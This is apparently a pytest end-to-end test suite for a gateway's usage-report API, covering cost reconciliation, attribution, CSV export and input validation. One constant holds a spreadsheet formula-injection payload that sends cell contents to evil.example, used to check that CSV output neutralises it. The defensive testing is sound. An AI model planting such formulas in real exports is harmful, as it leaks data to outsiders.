"""Chargeback reports through a real server and real calls, on SQLite and PostgreSQL: totals that
reconcile with the raw events to the last decimal in each currency, attribution frozen at call time,
CSV a spreadsheet opens safely, and bad input answered 422 naming the field."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx
import openai
import pytest

from tests.support import Server, Sim, apply, create_key, doc, model_doc, usage_events, wait_for

pytestmark = pytest.mark.e2e

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def priced(name: str, sim: Sim, input_price: str, output_price: str, currency: str) -> dict[str, Any]:
    pricing = {"input_per_million": input_price, "output_per_million": output_price, "currency": currency}
    return model_doc(name, sim.url, pricing=pricing)


@pytest.fixture(scope="module")
def world(server: Server, sim: Sim) -> Iterator[Server]:
    apply(
        server,
        doc("Group", "finance", costCenter="CC-FIN"),
        doc("Group", "labs", costCenter=FORMULA),
        doc("User", "fred", groups=["finance"]),
        doc("User", "lena", groups=["labs"]),
        doc("User", "mo", groups=["finance", "labs"], costCenter="CC-MO"),
        doc("User", "nobody"),
        priced("rep-usd", sim, "0.37", "1.13", "USD"),
        priced("rep-eur", sim, "2.71", "0.0577", "EUR"),
    )
    yield server


def call(server: Server, owner: str, model: str, times: int = 1, stream: bool = False) -> None:
    key = create_key(server, name="report", owner=owner)
    client = openai.OpenAI(base_url=server.v1, api_key=key["key"], max_retries=0)
    for n in range(times):
        text = "count to " + "ten " * (n + 1)
        if stream:
            for _ in client.chat.completions.create(
                model=model, messages=[{"role": "user", "content": text}], stream=True
            ):
                pass
        else:
            client.chat.completions.create(
                model=model, messages=[{"role": "user", "content": text}], max_tokens=5 + 7 * n
            )


def report(server: Server, **params: Any) -> dict[str, Any]:
    with server.admin() as admin:
        response = admin.get("/usage/report", params=params)
    assert response.status_code == 200, response.text
    answer: dict[str, Any] = response.json()
    return answer


@pytest.fixture(scope="module")
def called(world: Server) -> list[dict[str, Any]]:
    started = datetime.now(UTC)
    call(world, "user:fred", "rep-usd", 3)
    call(world, "user:fred", "rep-eur", 2, stream=True)
    call(world, "user:lena", "rep-eur", 4)
    call(world, "user:mo", "rep-usd", 2, stream=True)
    call(world, "user:nobody", "rep-usd", 1)
    call(world, "user:nobody", "rep-eur", 1)
    events: list[dict[str, Any]] = wait_for(
        lambda: (
            (found := usage_events(world, **{"from": started.isoformat()})) and len(found) == 13 and found
        ),
        timeout=15,
    )
    return events


def window(events: list[dict[str, Any]]) -> dict[str, str]:
    first = min(datetime.fromisoformat(e["time"]) for e in events)
    last = max(datetime.fromisoformat(e["time"]) for e in events)
    return {"from": first.isoformat(), "to": (last + timedelta(microseconds=1)).isoformat()}


def test_totals_reconcile_with_the_raw_events_in_each_currency(
    world: Server, called: list[dict[str, Any]]
) -> None:
    summed: defaultdict[str, Decimal] = defaultdict(Decimal)
    for event in called:
        summed[event["currency"]] += Decimal(event["cost"])
    assert set(summed) == {"USD", "EUR"} and all(amount > 0 for amount in summed.values())
    answer = report(world, by="costCenter", **window(called))
    totals = {t["currency"]: t for t in answer["totals"]}
    assert {c: Decimal(t["cost"]) for c, t in totals.items()} == summed  # exactly, never rounded
    assert {c: Decimal(t["cost"]).quantize(Decimal("0.01")) for c, t in totals.items()} == {
        c: amount.quantize(Decimal("0.01")) for c, amount in summed.items()
    }
    assert sum(t["requests"] for t in totals.values()) == len(called)
    for currency in summed:
        rows = [row for row in answer["rows"] if row["currency"] == currency]
        assert sum(Decimal(row["cost"]) for row in rows) == summed[currency]  # one cost center per call
        assert sum(row["prompt_tokens"] for row in rows) == totals[currency]["prompt_tokens"]
        wanted = sum(e["prompt_tokens"] for e in called if e["currency"] == currency)
        assert totals[currency]["prompt_tokens"] == wanted


def test_the_summary_agrees_with_the_report(world: Server, called: list[dict[str, Any]]) -> None:
    with world.admin() as admin:
        summary = admin.get("/usage/summary", params={"by": "user", **window(called)}).json()
    totals = {t["currency"]: Decimal(t["cost"]) for t in report(world, **window(called))["totals"]}
    assert {c["currency"]: Decimal(c["amount"]) for c in summary["totals"]["costs"]} == totals
    rows = {row["dimensions"]["user"]: row for row in summary["rows"]}
    assert {name: row["requests"] for name, row in rows.items()} == {
        "fred": 5,
        "lena": 4,
        "mo": 2,
        "nobody": 2,
    }
    assert rows["fred"]["ttft_ms"]["p50"] is not None  # streamed calls measure the first token
    assert rows["lena"]["ttft_ms"] == {"p50": None, "p95": None}
    assert rows["lena"]["latency_ms"]["p50"] is not None and rows["lena"]["success_rate"] == 1.0


def test_a_monthly_report_matches_the_events_of_its_month(
    world: Server, called: list[dict[str, Any]]
) -> None:
    month = datetime.fromisoformat(called[0]["time"]).strftime("%Y-%m")
    answer = report(world, period=month, by="costCenter,model")
    assert answer["period"] == month and answer["by"] == ["costCenter", "model"]
    in_month = [e for e in usage_events(world) if e["time"].startswith(month)]
    rows: defaultdict[tuple[str, str, str], Decimal] = defaultdict(Decimal)
    for event in in_month:
        rows[(event["cost_center"] or "unassigned", event["model"], event["currency"])] += Decimal(
            event["cost"]
        )
    got = {(r["costCenter"], r["model"], r["currency"]): Decimal(r["cost"]) for r in answer["rows"]}
    assert got == dict(rows)
    assert got[("unassigned", "rep-eur", "EUR")] > 0  # a call with no cost center is not dropped


def test_attribution_is_frozen_at_call_time(world: Server, called: list[dict[str, Any]]) -> None:
    by_center = {
        (r["costCenter"], r["currency"]): r["requests"] for r in report(world, **window(called))["rows"]
    }
    assert by_center[("CC-MO", "USD")] == 2 and by_center[(FORMULA, "EUR")] == 4
    before = report(world, by="group", **window(called))
    apply(world, doc("User", "mo", groups=["labs"]), doc("Group", "finance", costCenter="CC-FIN-2"))
    call(world, "user:mo", "rep-usd", 1)
    wait_for(lambda: len(usage_events(world, model="rep-usd")) == 7, timeout=15)
    assert report(world, by="group", **window(called)) == before  # the earlier calls keep their groups
    groups = {(r["group"], r["currency"]): r["requests"] for r in before["rows"]}
    assert groups[("finance", "USD")] == 5 and groups[("labs", "USD")] == 2  # mo's calls in both groups
    assert groups[("unassigned", "USD")] == 1
    later = report(world, by="costCenter,group", **window(usage_events(world, model="rep-usd")))
    now = {(r["costCenter"], r["group"]): r["requests"] for r in later["rows"] if r["currency"] == "USD"}
    assert now == {
        ("CC-FIN", "finance"): 3,
        ("CC-MO", "finance"): 2,  # mo's earlier calls: his own cost center, in both of his groups
        ("CC-MO", "labs"): 2,
        (FORMULA, "labs"): 1,  # the new one: no cost center of his own now, in labs only
        ("unassigned", "unassigned"): 1,
    }


def test_csv_is_the_same_rows_and_runs_nothing(world: Server, called: list[dict[str, Any]]) -> None:
    params = {"by": "costCenter", **window(called)}
    with world.admin() as admin:
        response = admin.get("/usage/report", params=params, headers={"Accept": "text/csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.headers["content-disposition"].endswith('.csv"')
    lines = list(csv.reader(io.StringIO(response.text)))
    header = [
        "costCenter",
        "requests",
        "prompt_tokens",
        "completion_tokens",
        "total_tokens",
        "cost",
        "currency",
    ]
    assert lines[0] == header
    as_json = report(world, **params)["rows"]
    assert len(lines) == len(as_json) + 1
    parsed = [dict(zip(header, line, strict=True)) for line in lines[1:]]
    assert "'" + FORMULA in [row["costCenter"] for row in parsed]  # neutralised: shown as text
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
    for row, want in zip(parsed, as_json, strict=True):
        name = want["costCenter"]
        assert row["costCenter"] == ("'" + name if name.startswith("=") else name)
        assert (Decimal(row["cost"]), row["currency"]) == (Decimal(want["cost"]), want["currency"])
        assert int(row["requests"]) == want["requests"]


def test_an_empty_period_is_an_empty_report(world: Server) -> None:
    answer = report(world, period="2001-W05", by="group,model")
    assert (answer["rows"], answer["totals"]) == ([], [])
    assert (answer["from"], answer["to"]) == ("2001-01-29T00:00:00Z", "2001-02-05T00:00:00Z")
    assert report(world, period="2001-02-03")["to"] == "2001-02-04T00:00:00Z"
    with world.admin() as admin:
        empty = admin.get("/usage/report", params={"period": "2001-02"}, headers={"Accept": "text/csv"})
    assert empty.text.splitlines() == [
        "costCenter,requests,prompt_tokens,completion_tokens,total_tokens,cost,currency"
    ]


LONG_AGO = (datetime.now(UTC) - timedelta(days=120)).isoformat()
BAD: list[tuple[str, dict[str, str], str, str]] = [
    ("/usage/summary", {"by": "color"}, "by", "costCenter"),
    ("/usage/summary", {"by": "model,user,group,key"}, "by", "at most 3"),
    ("/usage/summary", {"by": "model,model"}, "by", "twice"),
    ("/usage/summary", {"range": "2w"}, "range", "24h"),
    ("/usage/summary", {"range": "24h", "from": "2026-01-01T00:00:00Z"}, "range", "not both"),
    ("/usage/summary", {"from": "2026-02-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"}, "from", "after"),
    ("/usage/summary", {"from": "2026-01-01"}, "from", "timezone"),
    ("/usage/summary", {"colour": "red"}, "colour", "costCenter"),
    ("/usage/summary", {"cost_center": "CC-FIN"}, "cost_center", "costCenter"),
    ("/usage/timeseries", {"step": "2m"}, "step", "5m"),
    ("/usage/timeseries", {"step": "5m", "range": "30d"}, "step", "larger step"),
    ("/usage/timeseries", {"step": "1h", "range": "1y"}, "step", "2000"),
    ("/usage/timeseries", {"step": "5m", "from": LONG_AGO}, "step", "HEADWATER_USAGE_RETENTION_DAYS"),
    ("/usage/timeseries", {"by": "model,user"}, "by", "at most 1"),
    ("/usage/top", {"dimension": "costCenter", "metric": "cost"}, "dimension", "key"),
    ("/usage/top", {"dimension": "key", "metric": "latency"}, "metric", "tokens"),
    ("/usage/top", {"dimension": "key", "metric": "cost", "limit": "101"}, "limit", "100"),
    ("/usage/top", {"dimension": "key", "metric": "cost", "currency": "usd"}, "currency", "[A-Z]"),
    ("/usage/report", {}, "period", "2026-W47"),
    ("/usage/report", {"period": "2026-13"}, "period", "a month"),
    ("/usage/report", {"period": "2026-W54"}, "period", "ISO week"),
    ("/usage/report", {"period": "November"}, "period", "2026-11-05"),
    ("/usage/report", {"period": "2026-11", "from": "2026-11-01T00:00:00Z"}, "period", "not both"),
    ("/usage/report", {"period": "2026-11", "by": "costCenter,model,user"}, "by", "at most 2"),
    ("/usage/report", {"period": "2026-11", "by": "cost_center"}, "by", "costCenter"),
    ("/usage/events", {"from": LONG_AGO}, "from", "kept 90 days"),
]


@pytest.mark.parametrize(("path", "params", "field", "says"), BAD, ids=[f"{p} {f}" for p, _, f, _ in BAD])
def test_bad_input_is_a_422_naming_the_field(
    world: Server, path: str, params: dict[str, str], field: str, says: str
) -> None:
    with world.admin() as admin:
        response = admin.get(path, params=params)
    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert ["query", field] in [error["loc"] for error in detail], detail
    assert any(says in error["msg"] for error in detail), detail


def test_no_hostile_query_value_is_a_5xx(world: Server) -> None:
    hostile = [
        "",
        "x" * 5000,
        "9999-12-31T23:59:59-14:00",
        "0001-01-01T00:00:00+14:00",
        "-1",
        "NaN",
        "=1",
        "%",
    ]
    with world.admin() as admin:
        for path, names in (
            ("/usage/summary", ["range", "from", "to", "by", "model", "group", "costCenter", "user"]),
            ("/usage/timeseries", ["step", "from", "to", "by", "key"]),
            ("/usage/top", ["limit", "currency", "from", "serviceAccount"]),
            ("/usage/report", ["period", "from", "to", "by", "policy"]),
        ):
            for name in names:
                for value in hostile:
                    base = {"dimension": "key", "metric": "cost"} if path == "/usage/top" else {}
                    if path == "/usage/report" and name != "period":
                        base["period"] = "2026-11"
                    response = admin.get(path, params={**base, name: value})
                    assert response.status_code < 500, (path, name, value, response.text)


def test_queries_need_a_signed_in_caller(world: Server) -> None:
    for path in ("/usage/summary", "/usage/timeseries", "/usage/top", "/usage/report"):
        assert httpx.get(f"{world.url}/api/v1{path}").status_code == 401
